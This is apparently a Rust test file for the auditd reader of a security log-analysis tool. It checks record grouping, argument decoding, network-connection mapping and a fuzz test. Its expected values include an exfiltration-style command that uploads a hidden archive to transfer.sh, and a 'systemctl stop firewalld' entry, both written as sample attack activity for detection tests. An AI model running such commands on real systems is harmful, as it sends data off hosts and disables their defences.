//! The auditd reader on a hand-written audit.log: grouping of interleaved
//! records, decoding (hex arguments, PROCTITLE, SOCKADDR, msg='...'),
//! enriched lines, rejects, and the linux mapping.

mod common;

use common::*;

use outflow_event::{Event, Position, RejectReason, SourceKind, Value};
use outflow_sources::{CollectSink, Limits, ReadCtx};
use proptest::prelude::*;
use std::sync::Arc;

/// The event whose records carry `:SERIAL)`.
fn serial(r: &Read, serial: u32) -> &Event {
    let tag = format!(":{serial})");
    r.events
        .iter()
        .find(|e| e.raw().contains(&tag))
        .unwrap_or_else(|| panic!("no event {serial}"))
}

#[test]
fn detects_groups_and_rejects() {
    let r = read_path(&fixture("auditd", "audit.log"), None);
    assert_eq!(r.format, Some(SourceKind::Auditd));
    assert_eq!(
        r.rejects,
        [
            (RejectReason::Malformed, Position::Line(10)),
            (RejectReason::Malformed, Position::Line(11)),
        ]
    );
    // 301, 302 (interleaved), 401, 402, 501, 601, 602.
    assert_eq!(r.events.len(), 7);
}

#[test]
fn execve_event_is_one_process_creation() {
    let r = read_path(&fixture("auditd", "audit.log"), None);
    let ev = serial(&r, 301);
    assert_eq!(ev.origin.position, Position::Line(1));
    assert_eq!(ev.ts.unwrap().to_string(), "2026-11-20T10:00:00.120Z");
    assert_eq!(text(ev, "type"), "SYSCALL,EXECVE,CWD,PATH,PROCTITLE");
    assert_eq!(ev.get_str("host"), Some("web-01"));
    assert_eq!(ev.get_str("comm"), Some("curl"));
    assert_eq!(ev.get_str("exe"), Some("/usr/bin/curl"));
    assert_eq!(ev.get_str("key"), Some("exec_log"));
    assert_eq!(ev.get_str("syscall"), Some("59"));
    assert_eq!(ev.get_str("SYSCALL"), Some("execve"));
    // EXECVE arguments take a0..; the syscall's own registers move aside.
    assert_eq!(ev.get_str("a0"), Some("curl"));
    assert_eq!(ev.get_str("a2"), Some("-H X-Note: hello world"));
    assert_eq!(ev.get_str("a3"), Some("https://example.org/up load"));
    assert_eq!(ev.get_str("syscall_a0"), Some("55d2c8a0"));
    assert_eq!(
        ev.get_str("CommandLine"),
        Some("curl -s -H X-Note: hello world https://example.org/up load")
    );
    assert_eq!(
        ev.get_str("proctitle"),
        Some("curl -s -H X-Note: hello world")
    );
    assert_eq!(ev.get_str("cwd"), Some("/home/bob"));
    assert_eq!(
        text(ev, "name"),
        "/usr/bin/curl,/lib64/ld-linux-x86-64.so.2"
    );
    assert!(matches!(ev.get("nametype"), Some(Value::List(l)) if l.len() == 2));
    // No translation: the login uid is the user.
    assert_eq!(ev.get_str("user"), Some("1001"));

    assert_eq!(
        logsources(ev),
        ["linux/process_creation/-", "linux/-/auditd"]
    );
    assert_eq!(ev.get_str("Image"), Some("/usr/bin/curl"));
    assert_eq!(ev.get_str("CurrentDirectory"), Some("/home/bob"));
    assert_eq!(ev.get_str("ParentProcessId"), Some("4100"));
    assert_eq!(ev.get_str("LogonId"), Some("7"));
    assert_eq!(
        ev.entity_str(outflow_event::EntitySlot::Host).as_deref(),
        Some("web-01")
    );
    assert_eq!(ev.entity.pid, Some(4121));
    assert_eq!(
        ev.entity_str(outflow_event::EntitySlot::Image).as_deref(),
        Some("/usr/bin/curl")
    );
}

#[test]
fn connect_is_a_network_connection() {
    let r = read_path(&fixture("auditd", "audit.log"), None);
    let ev = serial(&r, 302);
    assert_eq!(ev.origin.position, Position::Line(2));
    assert_eq!(text(ev, "type"), "SYSCALL,SOCKADDR");
    assert_eq!(ev.get_str("a0"), Some("5"));
    assert_eq!(ev.get_str("saddr_fam"), Some("inet"));
    assert_eq!(ev.get_str("saddr_ip"), Some("144.76.136.153"));
    assert_eq!(ev.get("saddr_port"), Some(&Value::Int(443)));
    assert_eq!(ev.get_str("Initiated"), Some("true"));
    assert_eq!(
        logsources(ev),
        ["linux/network_connection/-", "linux/-/auditd"]
    );
    assert_eq!(ev.get_str("DestinationIp"), Some("144.76.136.153"));
    assert_eq!(ev.entity.dst_ip, "144.76.136.153".parse().ok());
    assert_eq!(ev.entity.dst_port, Some(443));

    let v6 = serial(&r, 602);
    assert_eq!(v6.get_str("saddr_fam"), Some("inet6"));
    assert_eq!(v6.get_str("saddr_ip"), Some("2a00:1450:4001:80a::200e"));
    assert_eq!(v6.entity.dst_port, Some(80));

    let unix = serial(&r, 601);
    assert_eq!(unix.get_str("saddr_fam"), Some("local"));
    assert_eq!(
        unix.get_str("saddr_path"),
        Some("/run/systemd/journal/socket")
    );
    assert_eq!(unix.get("Initiated"), None);
    assert_eq!(unix.get_str("user"), Some("0"));
}

#[test]
fn user_space_messages_open_their_msg() {
    let r = read_path(&fixture("auditd", "audit.log"), None);
    let cmd = serial(&r, 401);
    assert_eq!(text(cmd, "type"), "USER_CMD");
    assert_eq!(cmd.get_str("cmd"), Some("systemctl stop firewalld"));
    assert_eq!(cmd.get_str("res"), Some("success"));
    assert_eq!(cmd.get_str("cwd"), Some("/home/bob"));
    assert_eq!(logsources(cmd), ["linux/-/auditd"]);

    let stop = serial(&r, 402);
    assert_eq!(stop.get_str("unit"), Some("firewalld"));
    assert_eq!(stop.get_str("comm"), Some("systemd"));
    assert_eq!(stop.get_str("user"), Some("0"));
}

#[test]
fn enriched_records_and_split_arguments() {
    let r = read_path(&fixture("auditd", "audit.log"), None);
    let ev = serial(&r, 501);
    assert_eq!(ev.get_str("SYSCALL"), Some("execve"));
    assert_eq!(ev.get_str("AUID"), Some("bob"));
    assert_eq!(ev.get_str("UID"), Some("root"));
    assert_eq!(ev.get_str("user"), Some("bob"));
    assert_eq!(ev.get_str("key"), Some("(null)"));
    assert_eq!(ev.get_str("a2"), Some("print('abcdefghij)"));
    assert_eq!(
        ev.get_str("CommandLine"),
        Some("python3 -c print('abcdefghij)")
    );
    assert_eq!(text(ev, "name"), "/usr/bin/my tool");
    assert_eq!(text(ev, "nametype"), "CREATE");
    assert_eq!(text(ev, "OUID"), "root");
    assert_eq!(ev.get_str("User"), Some("bob"));
    assert_eq!(
        ev.entity_str(outflow_event::EntitySlot::User).as_deref(),
        Some("bob")
    );
}

#[test]
fn records_of_an_event_far_apart_are_flushed_by_age() {
    let dir = tempfile::tempdir().unwrap();
    let mut text =
        String::from("type=SYSCALL msg=audit(1795168800.000:1): syscall=59 exe=\"/bin/a\"\n");
    for s in 2..100 {
        text.push_str(&format!(
            "type=USER_LOGIN msg=audit(1795168800.000:{s}): pid=1 res=success\n"
        ));
    }
    text.push_str("type=EXECVE msg=audit(1795168800.000:1): argc=1 a0=\"late\"\n");
    let path = dir.path().join("a.log");
    std::fs::write(&path, text).unwrap();
    let r = read_path(&path, None);
    assert!(r.rejects.is_empty());
    // The SYSCALL aged out after 64 newer serials; the late EXECVE stands alone.
    assert_eq!(r.events.len(), 100);
    let firsts: Vec<_> = r
        .events
        .iter()
        .filter(|e| e.raw().contains(":1)"))
        .collect();
    assert_eq!(firsts.len(), 2);
    assert_eq!(firsts[1].get_str("a0"), Some("late"));
}

fn read_text(input: &str) {
    let limits = Limits::default();
    let mut sink = CollectSink::default();
    let mut ctx = ReadCtx::new(Arc::from("p"), &limits, &mut sink);
    let opened = outflow_sources::input::Opened {
        reader: Box::new(std::io::Cursor::new(input.as_bytes().to_vec())),
        sample: Vec::new(),
        compression: outflow_sources::input::Compression::None,
        plain_path: None,
        transcoded: None,
        consumed: Default::default(),
    };
    outflow_sources::formats::auditd::read(opened, &mut ctx).unwrap();
}

proptest! {
    #[test]
    fn arbitrary_lines_never_panic(lines in prop::collection::vec(
        prop_oneof![
            ".{0,120}",
            "(node=[a-z]{1,4} )?type=[A-Z]{1,8} msg=audit\\([0-9.]{1,14}:[0-9]{1,3}\\): [ -~]{0,80}",
            "type=(EXECVE|SOCKADDR|PROCTITLE|PATH) msg=audit\\(1.0:[0-9]\\): (a[0-9]{1,12}(\\[[0-9]{1,3}\\])?|saddr|proctitle|name|argc|msg)=['\"{]?[0-9A-Fa-f]{0,40}['\"}]?",
        ], 0..30)) {
        read_text(&lines.join("\n"));
    }
}

#[test]
fn demo_log_reads_cleanly() {
    let r = read_path(&demo("auditd.log"), None);
    assert_eq!(r.format, Some(SourceKind::Auditd));
    assert!(r.rejects.is_empty(), "{:?}", r.rejects);
    assert_eq!(r.events.len(), 11);
    let curl = r
        .events
        .iter()
        .find(|e| {
            e.get_str("CommandLine")
                .is_some_and(|c| c.contains("transfer.sh"))
        })
        .expect("curl upload");
    assert_eq!(
        curl.get_str("CommandLine"),
        Some("curl -s -T /tmp/.cache/src.tgz https://transfer.sh/src.tgz")
    );
    assert_eq!(curl.get_str("host"), Some("build-srv-02"));
    let commit = r
        .events
        .iter()
        .find(|e| e.get_str("a3") == Some("commit"))
        .expect("commit");
    assert_eq!(commit.get_str("a5"), Some("fix build on arm64"));
    let connect = r
        .events
        .iter()
        .find(|e| e.get_str("SYSCALL") == Some("connect"))
        .expect("connect");
    assert_eq!(connect.entity.dst_ip, "144.76.136.153".parse().ok());
    assert_eq!(connect.get_str("proctitle"), curl.get_str("CommandLine"));
}
